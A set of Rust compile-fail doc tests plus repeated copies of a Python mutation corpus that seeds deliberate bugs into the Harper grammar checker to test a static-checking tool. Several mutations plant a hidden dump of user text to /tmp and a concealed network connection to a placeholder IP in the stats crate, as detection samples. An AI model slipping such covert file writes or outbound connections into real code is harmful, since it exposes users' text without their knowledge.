/// rule cannot change what a later rule sees.
///
/// ```compile_fail,E0596
/// use harper_core::linting::{Lint, Linter};
/// use harper_core::Document;
/// struct Meddler;
/// impl Linter for Meddler {
///     fn lint(&mut self, document: &Document) -> Vec<Lint> {
///         let doc: &mut Document = &mut *document; // E0596: `*document` is behind a `&` reference
///         let _ = doc;
///         Vec::new()
///     }
///     fn description(&self) -> &str { "meddles" }
/// }
/// ```
///
/// The twin: identical except that the document is re-borrowed immutably.
///
/// ```no_run
/// use harper_core::linting::{Lint, Linter};
/// use harper_core::Document;
/// struct Reader;
/// impl Linter for Reader {
///     fn lint(&mut self, document: &Document) -> Vec<Lint> {
///         let doc: &Document = &*document;
///         let _ = doc;
///         Vec::new()
///     }
///     fn description(&self) -> &str { "reads" }
/// }
/// ```
pub struct RulesGetSharedDocument;

/// A pattern is consulted through `&self`: `Pattern::matches` cannot mutate the pattern, so a
/// pattern-based rule cannot remember anything between chunks without interior mutability (which the
/// type-graph rule R-C05-stateless excludes).
///
/// ```compile_fail,E0594
/// use harper_core::patterns::Pattern;
/// use harper_core::Token;
/// struct Counting { seen: usize }
/// impl Pattern for Counting {
///     fn matches(&self, tokens: &[Token], _source: &[char]) -> usize {
///         self.seen += 1; // E0594: cannot assign through `&self`
///         tokens.len().min(1)
///     }
/// }
/// ```
///
/// ```no_run
/// use harper_core::patterns::Pattern;
/// use harper_core::Token;
/// struct Plain { seen: usize }
/// impl Pattern for Plain {
///     fn matches(&self, tokens: &[Token], _source: &[char]) -> usize {
///         let _ = self.seen + 1;
///         tokens.len().min(1)
///     }
/// }
/// ```
pub struct PatternsAreConsultedImmutably;
