"""Mutation corpus for tools/selftest: every edit still compiles.  expect=None marks a
behaviour-preserving edit (the checks must stay silent)."""

def E(id, props, file, old, new, expect):
    return {"id": id, "props": props, "file": file, "old": old, "new": new, "expect": expect}

GROUPS = {}

GROUPS["g1"] = [
    # C15: the defect fixed by F4, reintroduced
    E("c15-str-wrong-sibling", ["C15"], "harper-core/src/spell/merged_dictionary.rs",
      "        let chars: CharString = word.chars().collect();\n        self.contains_exact_word(&chars)",
      "        let chars: CharString = word.chars().collect();\n        self.contains_word(&chars)",
      "R-C15-str:MergedDictionary::contains_exact_word_str"),
    # C15: FstDictionary answers an exact query itself instead of delegating
    E("c15-fst-nodelegate", ["C15"], "harper-core/src/spell/fst_dictionary.rs",
      "    fn contains_exact_word(&self, word: &[char]) -> bool {\n        self.full_dict.contains_exact_word(word)",
      "    fn contains_exact_word(&self, word: &[char]) -> bool {\n        self.full_dict.contains_word(word)",
      "R-C15-fst:FstDictionary::contains_exact_word"),
    # C14: derive(Hash) on Quote again
    E("c14-twin-loc-hashed", ["C14"], "harper-core/src/punctuation.rs",
      "    fn hash<H: std::hash::Hasher>(&self, _state: &mut H) {}",
      "    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {\n        self.twin_loc.hash(state);\n    }",
      "R-C14-locfree:Quote.twin_loc"),
    # C14: remove_ignored keeps the ignored ones
    E("c14-retain-inverted", ["C14"], "harper-core/src/ignored_lints/mod.rs",
      "lints.retain(|lint| !self.is_ignored(lint, document));",
      "lints.retain(|lint| self.is_ignored(lint, document));",
      "R-C14-agree:IgnoredLints::remove_ignored"),
    # C11: gate removed around the pattern linters
    E("c11-gate-removed", ["C11"], "harper-core/src/linting/lint_group.rs",
      "                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) {",
      "                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) || key.len() > 1000 {",
      "R-C11-gate:LintGroup::lint:run_on_chunk"),
    # C11: overlay not restored in the wasm linter
    E("c11-overlay-not-restored", ["C11"], "harper-wasm/src/lib.rs",
      "        self.lint_group.config = temp;\n\n        remove_overlaps(&mut lints);",
      "        drop(temp);\n\n        remove_overlaps(&mut lints);",
      "R-C11-overlay:Linter::lint"),
    # C11: merge_from overwrites with None
    E("c11-merge-none", ["C11"], "harper-core/src/linting/lint_group.rs",
      "            if val.is_none() {\n                continue;\n            }\n",
      "",
      "R-C11-merge:LintGroupConfig::merge_from"),
    # C10: a debug dump of the text
    E("c10-debug-dump", ["C10"], "harper-core/src/document.rs",
      "    fn match_quotes(&mut self) {",
      "    fn match_quotes(&mut self) {\n        if self.tokens.len() == 987654 {\n            let _ = std::fs::write(\"/tmp/harper-dump.txt\", self.get_full_string());\n        }",
      ["R-C10-files:std::fs::write", "R-C10-noread:harper_core::document"]),
    # C10: a connect hidden in the stats crate
    E("c10-telemetry", ["C10"], "harper-stats/src/lib.rs",
      "impl Stats {\n    pub fn new() -> Self {",
      "impl Stats {\n    pub fn ping(&self) {\n        if self.records.len() == 424242 {\n            let _ = std::net::TcpStream::connect(\"203.0.113.7:80\");\n        }\n    }\n\n    pub fn new() -> Self {",
      ["R-C10-net:std::net::TcpStream::connect", "R-C10-noread:harper_stats"]),
]
