"""Mutation corpus for tools/selftest: every edit still compiles.  expect=None marks a
behaviour-preserving edit (the checks must stay silent)."""

def E(id, props, file, old, new, expect):
    return {"id": id, "props": props, "file": file, "old": old, "new": new, "expect": expect}

GROUPS = {}

GROUPS["g1"] = [
    # C15: the defect fixed by F4, reintroduced
    E("c15-str-wrong-sibling", ["C15"], "harper-core/src/spell/merged_dictionary.rs",
      "        let chars: CharString = word.chars().collect();\n        self.contains_exact_word(&chars)",
      "        let chars: CharString = word.chars().collect();\n        self.contains_word(&chars)",
      "R-C15-str:MergedDictionary::contains_exact_word_str"),
    # C15: FstDictionary answers an exact query itself instead of delegating
    E("c15-fst-nodelegate", ["C15"], "harper-core/src/spell/fst_dictionary.rs",
      "    fn contains_exact_word(&self, word: &[char]) -> bool {\n        self.full_dict.contains_exact_word(word)",
      "    fn contains_exact_word(&self, word: &[char]) -> bool {\n        self.full_dict.contains_word(word)",
      "R-C15-fst:FstDictionary::contains_exact_word"),
    # C14: derive(Hash) on Quote again
    E("c14-twin-loc-hashed", ["C14"], "harper-core/src/punctuation.rs",
      "    fn hash<H: std::hash::Hasher>(&self, _state: &mut H) {}",
      "    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {\n        self.twin_loc.hash(state);\n    }",
      "R-C14-locfree:Quote.twin_loc"),
    # C14: remove_ignored keeps the ignored ones
    E("c14-retain-inverted", ["C14"], "harper-core/src/ignored_lints/mod.rs",
      "lints.retain(|lint| !self.is_ignored(lint, document));",
      "lints.retain(|lint| self.is_ignored(lint, document));",
      "R-C14-agree:IgnoredLints::remove_ignored"),
    # C11: gate removed around the pattern linters
    E("c11-gate-removed", ["C11"], "harper-core/src/linting/lint_group.rs",
      "                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) {",
      "                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) || key.len() > 1000 {",
      "R-C11-gate:LintGroup::lint:run_on_chunk"),
    # C11: overlay not restored in the wasm linter
    E("c11-overlay-not-restored", ["C11"], "harper-wasm/src/lib.rs",
      "        self.lint_group.config = temp;\n\n        remove_overlaps(&mut lints);",
      "        drop(temp);\n\n        remove_overlaps(&mut lints);",
      "R-C11-overlay:Linter::lint"),
    # C11: merge_from overwrites with None
    E("c11-merge-none", ["C11"], "harper-core/src/linting/lint_group.rs",
      "            if val.is_none() {\n                continue;\n            }\n",
      "",
      "R-C11-merge:LintGroupConfig::merge_from"),
    # C10: a debug dump of the text
    E("c10-debug-dump", ["C10"], "harper-core/src/document.rs",
      "    fn match_quotes(&mut self) {",
      "    fn match_quotes(&mut self) {\n        if self.tokens.len() == 987654 {\n            let _ = std::fs::write(\"/tmp/harper-dump.txt\", self.get_full_string());\n        }",
      ["R-C10-files:std::fs::write", "R-C10-noread:harper_core::document"]),
    # C10: a connect hidden in the stats crate
    E("c10-telemetry", ["C10"], "harper-stats/src/lib.rs",
      "impl Stats {\n    pub fn new() -> Self {",
      "impl Stats {\n    pub fn ping(&self) {\n        if self.records.len() == 424242 {\n            let _ = std::net::TcpStream::connect(\"203.0.113.7:80\");\n        }\n    }\n\n    pub fn new() -> Self {",
      ["R-C10-net:std::net::TcpStream::connect", "R-C10-noread:harper_stats"]),
]

GROUPS["g2"] = [
    E("c13-no-overlaps-wasm", ["C13", "C16"], "harper-wasm/src/lib.rs",
      "        remove_overlaps(&mut lints);\n\n        self.ignored_lints.remove_ignored(&mut lints, &document);",
      "        self.ignored_lints.remove_ignored(&mut lints, &document);",
      ["R-C13-placement:Linter::lint", "R-C16-pipeline:Linter::lint:stages"]),
    E("c13-retain-uses-element", ["C13"], "harper-core/src/vec_ext.rs",
      "        self.retain(|_| {",
      "        self.retain(|x| {\n            let _y = x;",
      "R-C13-subset:VecExt::remove_indices"),
    E("c13-push-front", ["C13"], "harper-core/src/lib.rs",
      "            remove_indices.push_back(i);",
      "            remove_indices.push_front(i);",
      "R-C13-sorted:remove_overlaps:queue"),
    E("c16-ignore-plain-parser", ["C16"], "harper-wasm/src/lib.rs",
      "            source.into(),\n            &lint.language.create_parser(),",
      "            source.into(),\n            &Language::Plain.create_parser(),",
      "R-C16-samedoc:Linter::ignore_lint:document"),
    E("c16-sync-loses-config", ["C16"], "harper-wasm/src/lib.rs",
      "        self.lint_group.config.merge_from(&mut lint_config);\n    }",
      "        lint_config.clear();\n    }",
      "R-C16-samedoc:Linter::synchronize_lint_dict"),
    E("c19-pretty", ["C19"], "harper-stats/src/lib.rs",
      "let mut serializer = Serializer::new(&mut *w);",
      "let mut serializer = Serializer::pretty(&mut *w);",
      "R-C19-line:Stats::write:serialize"),
    E("c19-no-append", ["C19"], "harper-ls/src/backend.rs",
      "                .append(true)\n",
      "                .write(true)\n                .truncate(true)\n",
      "R-C19-append:Backend::save_stats"),
    E("c19-double-count", ["C19"], "harper-stats/src/lib.rs",
      "                    summary.inc_lint_count(*kind);\n\n                    for tok in context {",
      "                    for tok in context {\n                        summary.inc_lint_count(*kind);",
      "R-C19-count:Stats::summarize"),
    E("c19-skip-field", ["C19"], "harper-stats/src/record.rs",
      "    /// Recorded as seconds from the Unix Epoch\n    pub when: i64,",
      "    /// Recorded as seconds from the Unix Epoch\n    #[serde(skip_serializing)]\n    pub when: i64,",
      "R-C19-serde:Record:Record"),
]

GROUPS["p1"] = [
    # behaviour-preserving edits: every check must stay silent
    E("p-c19-write-all-newline", ["C19"], "harper-stats/src/lib.rs",
      "            writeln!(w)?;",
      "            w.write_all(b\"\\n\")?;",
      None),
    E("p-c13-while-loop", ["C13"], "harper-core/src/lib.rs",
      "    if lints.len() < 2 {\n        return;\n    }",
      "    let n = lints.len();\n    if n < 2 {\n        return;\n    }",
      None),
    E("p-c11-let-enabled", ["C11"], "harper-core/src/linting/lint_group.rs",
      "        for (key, linter) in &mut self.linters {\n            if self.config.is_rule_enabled(key) {",
      "        for (key, linter) in &mut self.linters {\n            let enabled = self.config.is_rule_enabled(key);\n            if enabled {",
      None),
    E("p-c15-helper-var", ["C15"], "harper-core/src/spell/merged_dictionary.rs",
      "    fn get_word_metadata_str(&self, word: &str) -> Option<&WordMetadata> {\n        let chars: CharString = word.chars().collect();\n        self.get_word_metadata(&chars)",
      "    fn get_word_metadata_str(&self, word: &str) -> Option<&WordMetadata> {\n        let chars: CharString = word.chars().collect();\n        let res = self.get_word_metadata(&chars);\n        res",
      None),
    E("p-c14-rename-local", ["C14"], "harper-core/src/ignored_lints/mod.rs",
      "        let hash = self.hash_lint_context(lint, document);\n\n        self.context_hashes.contains(&hash)",
      "        let h = self.hash_lint_context(lint, document);\n        let set = &self.context_hashes;\n        set.contains(&h)",
      None),
    E("p-c16-reorder-independent", ["C16", "C13", "C11"], "harper-wasm/src/lib.rs",
      "        let parser = language.create_parser();\n\n        let document = Document::new_from_vec(source.clone(), &parser, &self.dictionary);\n\n        let temp = self.lint_group.config.clone();",
      "        let temp = self.lint_group.config.clone();\n\n        let parser = language.create_parser();\n\n        let document = Document::new_from_vec(source.clone(), &parser, &self.dictionary);\n",
      None),
]

GROUPS["g3"] = [
    # C05: a rule that remembers something between documents
    E("c05-stateful-rule", ["C05"], "harper-core/src/linting/repeated_words.rs",
      "impl Linter for RepeatedWords {\n    fn lint(&mut self, document: &Document) -> Vec<Lint> {",
      "impl Linter for RepeatedWords {\n    fn lint(&mut self, document: &Document) -> Vec<Lint> {\n        self.seen_docs += 1;",
      "R-C05-stateless:RepeatedWords.seen_docs"),
    E("c05-stateful-rule-field", ["C05"], "harper-core/src/linting/repeated_words.rs",
      "pub struct RepeatedWords {",
      "pub struct RepeatedWords {\n    seen_docs: usize,",
      None),
    E("c05-stateful-rule-init", ["C05"], "harper-core/src/linting/repeated_words.rs",
      "            special_cases: vec![char_string!(\"this\")],",
      "            special_cases: vec![char_string!(\"this\")],\n            seen_docs: 0,",
      None),
    # C05: config hash dropped from the cache key
    E("c05-key-no-config", ["C05", "C11"], "harper-core/src/linting/lint_group.rs",
      "let config_hash = self.hasher_builder.hash_one((&self.config, token_sig));",
      "let config_hash = self.hasher_builder.hash_one(token_sig);",
      ["R-C05-key:config:LintGroup::lint:cache-", "R-C11-key:LintGroup::lint:cache-"]),
    # C05: asymmetric re-basing
    E("c05-rebase-asym", ["C05"], "harper-core/src/linting/lint_group.rs",
      "                    lint.span.pull_by(chunk_span.start);",
      "                    lint.span.pull_by(chunk_span.end);",
      "R-C05-key:chunk-cache:rebase"),
    # C05: a new interior-mutable static
    E("c05-static-counter", ["C05"], "harper-core/src/linting/an_a.rs",
      "impl Linter for AnA {",
      "static LINT_CALLS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);\n\nimpl Linter for AnA {",
      "R-C05-statics:linting::an_a::LINT_CALLS"),
    # C05: tie-break removed again
    E("c05-order-ties", ["C05"], "harper-core/src/spell/mutable_dictionary.rs",
      ".sorted_unstable_by_key(|a| (a.1, a.0))",
      ".sorted_unstable_by_key(|a| a.1)",
      "R-C05-order:wordmap-order:<MutableDictionary@Dictionary>::fuzzy_match"),
    # C07: publish before the document is refreshed
    E("c07-skip-save", ["C07"], "harper-ls/src/backend.rs",
      "                let mut dict = self.load_user_dictionary().await;\n                dict.append_word(word, WordMetadata::default());\n                self.save_user_dictionary(dict)",
      "                let mut dict = self.load_user_dictionary().await;\n                dict.append_word(word, WordMetadata::default());\n                self.save_user_dictionary(MutableDictionary::new())",
      "R-C07-pipeline:HarperAddToUserDict:dataflow"),
    # C07: in-place truncation again
    E("c07-truncate", ["C07"], "harper-ls/src/dictionary_io.rs",
      "    let file = File::create(&tmp_path).await?;",
      "    let file = File::create(path.as_ref()).await?;",
      "R-C07-atomic:save_dict:in-place-truncate"),
    # C09: handler forgets to publish on one path
    E("c09-no-publish", ["C09"], "harper-ls/src/backend.rs",
      "            error!(\"{err}\")\n        }\n\n        self.publish_diagnostics(&params.text_document.uri).await;",
      "            error!(\"{err}\");\n            return;\n        }\n\n        self.publish_diagnostics(&params.text_document.uri).await;",
      "R-C09-publish:Backend::did_change"),
    # C09: disk refresh from a command again
    E("c09-disk-refresh", ["C09"], "harper-ls/src/backend.rs",
      "                self.save_file_dictionary(&file_url, dict)\n                    .await\n                    .map_err(|err| error!(\"{err}\"))\n                    .err();\n                self.refresh_document(&file_url)",
      "                self.save_file_dictionary(&file_url, dict)\n                    .await\n                    .map_err(|err| error!(\"{err}\"))\n                    .err();\n                self.update_document_from_file(&file_url, None)",
      "R-C09-source:execute_command:HarperAddToFileDict"),
]

GROUPS["g4"] = [
    E("c17-teens", ["C17"], "harper-core/src/number.rs",
      "if let 11..=13 = integer % 100 {", "if let 11..=12 = integer % 100 {",
      "R-C17-table:correct_suffix_for:table"),
    E("c17-span-3", ["C17"], "harper-core/src/linting/correct_number_suffix.rs",
      "Span::new_with_len(number_tok.span.end, 2).pulled_by(2)", "Span::new_with_len(number_tok.span.end, 2).pulled_by(3)",
      "R-C17-flow:CorrectNumberSuffix::lint:span"),
    E("c17-swapped-suffix", ["C17"], "harper-core/src/number.rs",
      "            NumberSuffix::Nd => vec!['n', 'd'],\n            NumberSuffix::Rd => vec!['r', 'd'],",
      "            NumberSuffix::Nd => vec!['r', 'd'],\n            NumberSuffix::Rd => vec!['n', 'd'],",
      "R-C17-flow:NumberSuffix::to_chars"),
    E("c18-push", ["C18"], "harper-core/src/title_case.rs",
      "        if should_capitalize {\n            output[word.span.start - start_index] =",
      "        if should_capitalize {\n            if index > 1000 {\n                output.push('!');\n            }\n            output[word.span.start - start_index] =",
      "R-C18-length:make_title_case:push"),
    E("c18-other-index", ["C18"], "harper-core/src/title_case.rs",
      "                output[i - start_index] = output[i - start_index].to_ascii_lowercase();",
      "                output[i - start_index] = output[word.span.start - start_index].to_ascii_lowercase();",
      "R-C18-caseonly:make_title_case:store:lower"),
    E("c08-utf8", ["C08"], "harper-ls/src/pos_conv.rs",
      "        .map(|c| c.len_utf16())\n        .sum();", "        .map(|c| c.len_utf8())\n        .sum();",
      "R-C08-utf16:index_to_position"),
    E("c08-plus-one", ["C08"], "harper-ls/src/pos_conv.rs",
      "        traversed_cols += c.len_utf16();", "        traversed_cols += c.len_utf16().min(1);",
      "R-C08-utf16:position_to_index"),
    E("c08-insert-after-drops-flagged", ["C08"], "harper-ls/src/diagnostics.rs",
      "                    Suggestion::InsertAfter(with) => format!(\n                        \"{}{}\",\n                        lint.span.get_content_string(source),\n                        with.to_string()\n                    ),",
      "                    Suggestion::InsertAfter(with) => with.to_string(),",
      "R-C08-range:lint_to_code_actions:new_text"),
    E("c06-no-normalise", ["C06"], "harper-core/src/spell/word_id.rs",
      "        let normalized = chars.as_ref().normalized();\n        let lower = normalized.to_lower();",
      "        let normalized = chars.as_ref();\n        let lower = normalized.to_lower();",
      "R-C06-id:WordId::from_word_chars"),
    E("c06-accept-any-case", ["C06"], "harper-core/src/linting/spell_check.rs",
      "                    && (self.dictionary.contains_exact_word(word_chars)\n                        || self.dictionary.contains_exact_word(&word_chars.to_lower()))",
      "                    && (self.dictionary.contains_exact_word(word_chars)\n                        || self.dictionary.contains_word(&word_chars.to_lower()))",
      "R-C06-accept:"),
]

# edits that break the behaviour but keep every structural fact the rules look at: documented misses
GROUPS["limits"] = [
    E("c06-no-dialect-filter", ["C06"], "harper-core/src/linting/spell_check.rs",
      "                .is_none_or(|d| d == self.dialect)\n        });",
      "                .is_none_or(|d| d == self.dialect || true)\n        });",
      None),
]
