"""Mutation corpus for tools/selftest: every edit still compiles.  expect=None marks a
behaviour-preserving edit (the checks must stay silent)."""

def E(id, props, file, old, new, expect):
    return {"id": id, "props": props, "file": file, "old": old, "new": new, "expect": expect}

GROUPS = {}

GROUPS["g1"] = [
    # C15: the defect fixed by F4, reintroduced
    E("c15-str-wrong-sibling", ["C15"], "harper-core/src/spell/merged_dictionary.rs",
      "        let chars: CharString = word.chars().collect();\n        self.contains_exact_word(&chars)",
      "        let chars: CharString = word.chars().collect();\n        self.contains_word(&chars)",
      "R-C15-str:MergedDictionary::contains_exact_word_str"),
    # C15: FstDictionary answers an exact query itself instead of delegating
    E("c15-fst-nodelegate", ["C15"], "harper-core/src/spell/fst_dictionary.rs",
      "    fn contains_exact_word(&self, word: &[char]) -> bool {\n        self.full_dict.contains_exact_word(word)",
      "    fn contains_exact_word(&self, word: &[char]) -> bool {\n        self.full_dict.contains_word(word)",
      "R-C15-fst:FstDictionary::contains_exact_word"),
    # C14: derive(Hash) on Quote again
    E("c14-twin-loc-hashed", ["C14"], "harper-core/src/punctuation.rs",
      "    fn hash<H: std::hash::Hasher>(&self, _state: &mut H) {}",
      "    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {\n        self.twin_loc.hash(state);\n    }",
      "R-C14-locfree:Quote.twin_loc"),
    # C14: remove_ignored keeps the ignored ones
    E("c14-retain-inverted", ["C14"], "harper-core/src/ignored_lints/mod.rs",
      "lints.retain(|lint| !self.is_ignored(lint, document));",
      "lints.retain(|lint| self.is_ignored(lint, document));",
      "R-C14-agree:IgnoredLints::remove_ignored"),
    # C11: gate removed around the pattern linters
    E("c11-gate-removed", ["C11"], "harper-core/src/linting/lint_group.rs",
      "                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) {",
      "                for (key, linter) in &mut self.pattern_linters {\n                    if self.config.is_rule_enabled(key) || key.len() > 1000 {",
      "R-C11-gate:LintGroup::lint:run_on_chunk"),
    # C11: overlay not restored in the wasm linter
    E("c11-overlay-not-restored", ["C11"], "harper-wasm/src/lib.rs",
      "        self.lint_group.config = temp;\n\n        remove_overlaps(&mut lints);",
      "        drop(temp);\n\n        remove_overlaps(&mut lints);",
      "R-C11-overlay:Linter::lint"),
    # C11: merge_from overwrites with None
    E("c11-merge-none", ["C11"], "harper-core/src/linting/lint_group.rs",
      "            if val.is_none() {\n                continue;\n            }\n",
      "",
      "R-C11-merge:LintGroupConfig::merge_from"),
    # C10: a debug dump of the text
    E("c10-debug-dump", ["C10"], "harper-core/src/document.rs",
      "    fn match_quotes(&mut self) {",
      "    fn match_quotes(&mut self) {\n        if self.tokens.len() == 987654 {\n            let _ = std::fs::write(\"/tmp/harper-dump.txt\", self.get_full_string());\n        }",
      ["R-C10-files:std::fs::write", "R-C10-noread:harper_core::document"]),
    # C10: a connect hidden in the stats crate
    E("c10-telemetry", ["C10"], "harper-stats/src/lib.rs",
      "impl Stats {\n    pub fn new() -> Self {",
      "impl Stats {\n    pub fn ping(&self) {\n        if self.records.len() == 424242 {\n            let _ = std::net::TcpStream::connect(\"203.0.113.7:80\");\n        }\n    }\n\n    pub fn new() -> Self {",
      ["R-C10-net:std::net::TcpStream::connect", "R-C10-noread:harper_stats"]),
]

GROUPS["g2"] = [
    E("c13-no-overlaps-wasm", ["C13", "C16"], "harper-wasm/src/lib.rs",
      "        remove_overlaps(&mut lints);\n\n        self.ignored_lints.remove_ignored(&mut lints, &document);",
      "        self.ignored_lints.remove_ignored(&mut lints, &document);",
      ["R-C13-placement:Linter::lint", "R-C16-pipeline:Linter::lint:stages"]),
    E("c13-retain-uses-element", ["C13"], "harper-core/src/vec_ext.rs",
      "        self.retain(|_| {",
      "        self.retain(|x| {\n            let _y = x;",
      "R-C13-subset:VecExt::remove_indices"),
    E("c13-push-front", ["C13"], "harper-core/src/lib.rs",
      "            remove_indices.push_back(i);",
      "            remove_indices.push_front(i);",
      ["R-C13-sorted:remove_overlaps:queue", "R-C13-sweep:anchor-missing:sweep-sites"]),
    E("c16-ignore-plain-parser", ["C16"], "harper-wasm/src/lib.rs",
      "            source.into(),\n            &lint.language.create_parser(),",
      "            source.into(),\n            &Language::Plain.create_parser(),",
      "R-C16-samedoc:Linter::ignore_lint:document"),
    E("c16-sync-loses-config", ["C16"], "harper-wasm/src/lib.rs",
      "        self.lint_group.config.merge_from(&mut lint_config);\n    }",
      "        lint_config.clear();\n    }",
      "R-C16-samedoc:Linter::synchronize_lint_dict"),
    E("c19-pretty", ["C19"], "harper-stats/src/lib.rs",
      "let mut serializer = Serializer::new(&mut *w);",
      "let mut serializer = Serializer::pretty(&mut *w);",
      "R-C19-line:Stats::write:serialize"),
    E("c19-no-append", ["C19"], "harper-ls/src/backend.rs",
      "                .append(true)\n",
      "                .write(true)\n                .truncate(true)\n",
      "R-C19-append:Backend::save_stats"),
    E("c19-double-count", ["C19"], "harper-stats/src/lib.rs",
      "                    summary.inc_lint_count(*kind);\n\n                    for tok in context {",
      "                    for tok in context {\n                        summary.inc_lint_count(*kind);",
      "R-C19-count:Stats::summarize"),
    E("c19-skip-field", ["C19"], "harper-stats/src/record.rs",
      "    /// Recorded as seconds from the Unix Epoch\n    pub when: i64,",
      "    /// Recorded as seconds from the Unix Epoch\n    #[serde(skip_serializing)]\n    pub when: i64,",
      "R-C19-serde:Record:Record"),
]

GROUPS["p1"] = [
    # behaviour-preserving edits: every check must stay silent
    E("p-c19-write-all-newline", ["C19"], "harper-stats/src/lib.rs",
      "            writeln!(w)?;",
      "            w.write_all(b\"\\n\")?;",
      None),
    E("p-c13-while-loop", ["C13"], "harper-core/src/lib.rs",
      "    if lints.len() < 2 {\n        return;\n    }",
      "    let n = lints.len();\n    if n < 2 {\n        return;\n    }",
      None),
    E("p-c11-let-enabled", ["C11"], "harper-core/src/linting/lint_group.rs",
      "        for (key, linter) in &mut self.linters {\n            if self.config.is_rule_enabled(key) {",
      "        for (key, linter) in &mut self.linters {\n            let enabled = self.config.is_rule_enabled(key);\n            if enabled {",
      None),
    E("p-c15-helper-var", ["C15"], "harper-core/src/spell/merged_dictionary.rs",
      "    fn get_word_metadata_str(&self, word: &str) -> Option<&WordMetadata> {\n        let chars: CharString = word.chars().collect();\n        self.get_word_metadata(&chars)",
      "    fn get_word_metadata_str(&self, word: &str) -> Option<&WordMetadata> {\n        let chars: CharString = word.chars().collect();\n        let res = self.get_word_metadata(&chars);\n        res",
      None),
    E("p-c14-rename-local", ["C14"], "harper-core/src/ignored_lints/mod.rs",
      "        let hash = self.hash_lint_context(lint, document);\n\n        self.context_hashes.contains(&hash)",
      "        let h = self.hash_lint_context(lint, document);\n        let set = &self.context_hashes;\n        set.contains(&h)",
      None),
    E("p-c16-reorder-independent", ["C16", "C13", "C11"], "harper-wasm/src/lib.rs",
      "        let parser = language.create_parser();\n\n        let document = Document::new_from_vec(source.clone(), &parser, &self.dictionary);\n\n        let temp = self.lint_group.config.clone();",
      "        let temp = self.lint_group.config.clone();\n\n        let parser = language.create_parser();\n\n        let document = Document::new_from_vec(source.clone(), &parser, &self.dictionary);\n",
      None),
]

GROUPS["g3"] = [
    # C05: a rule that remembers something between documents
    E("c05-stateful-rule", ["C05"], "harper-core/src/linting/repeated_words.rs",
      "impl Linter for RepeatedWords {\n    fn lint(&mut self, document: &Document) -> Vec<Lint> {",
      "impl Linter for RepeatedWords {\n    fn lint(&mut self, document: &Document) -> Vec<Lint> {\n        self.seen_docs += 1;",
      "R-C05-stateless:RepeatedWords.seen_docs"),
    E("c05-stateful-rule-field", ["C05"], "harper-core/src/linting/repeated_words.rs",
      "pub struct RepeatedWords {",
      "pub struct RepeatedWords {\n    seen_docs: usize,",
      None),
    E("c05-stateful-rule-init", ["C05"], "harper-core/src/linting/repeated_words.rs",
      "            special_cases: vec![char_string!(\"this\")],",
      "            special_cases: vec![char_string!(\"this\")],\n            seen_docs: 0,",
      None),
    # C05: config hash dropped from the cache key
    E("c05-key-no-config", ["C05", "C11"], "harper-core/src/linting/lint_group.rs",
      "let config_hash = self.hasher_builder.hash_one((&self.config, token_sig));",
      "let config_hash = self.hasher_builder.hash_one(token_sig);",
      ["R-C05-key:config:LintGroup::lint:cache-", "R-C11-key:LintGroup::lint:cache-"]),
    # C05: asymmetric re-basing
    E("c05-rebase-asym", ["C05"], "harper-core/src/linting/lint_group.rs",
      "                    lint.span.pull_by(chunk_span.start);",
      "                    lint.span.pull_by(chunk_span.end);",
      "R-C05-key:chunk-cache:rebase"),
    # C05: a new interior-mutable static
    E("c05-static-counter", ["C05"], "harper-core/src/linting/an_a.rs",
      "impl Linter for AnA {",
      "static LINT_CALLS: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);\n\nimpl Linter for AnA {",
      "R-C05-statics:linting::an_a::LINT_CALLS"),
    # C05: tie-break removed again
    E("c05-order-ties", ["C05"], "harper-core/src/spell/mutable_dictionary.rs",
      ".sorted_unstable_by_key(|a| (a.1, a.0))",
      ".sorted_unstable_by_key(|a| a.1)",
      "R-C05-order:wordmap-order:<MutableDictionary@Dictionary>::fuzzy_match"),
    # C07: publish before the document is refreshed
    E("c07-skip-save", ["C07"], "harper-ls/src/backend.rs",
      "                let mut dict = self.load_user_dictionary().await;\n                dict.append_word(word, WordMetadata::default());\n                self.save_user_dictionary(dict)",
      "                let mut dict = self.load_user_dictionary().await;\n                dict.append_word(word, WordMetadata::default());\n                self.save_user_dictionary(MutableDictionary::new())",
      "R-C07-pipeline:HarperAddToUserDict:dataflow"),
    # C07: in-place truncation again
    E("c07-truncate", ["C07"], "harper-ls/src/dictionary_io.rs",
      "    let file = File::create(&tmp_path).await?;",
      "    let file = File::create(path.as_ref()).await?;",
      "R-C07-atomic:save_dict:in-place-truncate"),
    # C09: handler forgets to publish on one path
    E("c09-no-publish", ["C09"], "harper-ls/src/backend.rs",
      "            error!(\"{err}\")\n        }\n\n        self.publish_diagnostics(&params.text_document.uri).await;",
      "            error!(\"{err}\");\n            return;\n        }\n\n        self.publish_diagnostics(&params.text_document.uri).await;",
      "R-C09-publish:Backend::did_change"),
    # C09: disk refresh from a command again
    E("c09-disk-refresh", ["C09"], "harper-ls/src/backend.rs",
      "                self.save_file_dictionary(&file_url, dict)\n                    .await\n                    .map_err(|err| error!(\"{err}\"))\n                    .err();\n                self.refresh_document(&file_url)",
      "                self.save_file_dictionary(&file_url, dict)\n                    .await\n                    .map_err(|err| error!(\"{err}\"))\n                    .err();\n                self.update_document_from_file(&file_url, None)",
      "R-C09-source:execute_command:HarperAddToFileDict"),
]

GROUPS["g4"] = [
    E("c17-teens", ["C17"], "harper-core/src/number.rs",
      "if let 11..=13 = integer % 100 {", "if let 11..=12 = integer % 100 {",
      "R-C17-table:correct_suffix_for:table"),
    E("c17-span-3", ["C17"], "harper-core/src/linting/correct_number_suffix.rs",
      "Span::new_with_len(number_tok.span.end, 2).pulled_by(2)", "Span::new_with_len(number_tok.span.end, 2).pulled_by(3)",
      "R-C17-flow:CorrectNumberSuffix::lint:span"),
    E("c17-swapped-suffix", ["C17"], "harper-core/src/number.rs",
      "            NumberSuffix::Nd => vec!['n', 'd'],\n            NumberSuffix::Rd => vec!['r', 'd'],",
      "            NumberSuffix::Nd => vec!['r', 'd'],\n            NumberSuffix::Rd => vec!['n', 'd'],",
      "R-C17-flow:NumberSuffix::to_chars"),
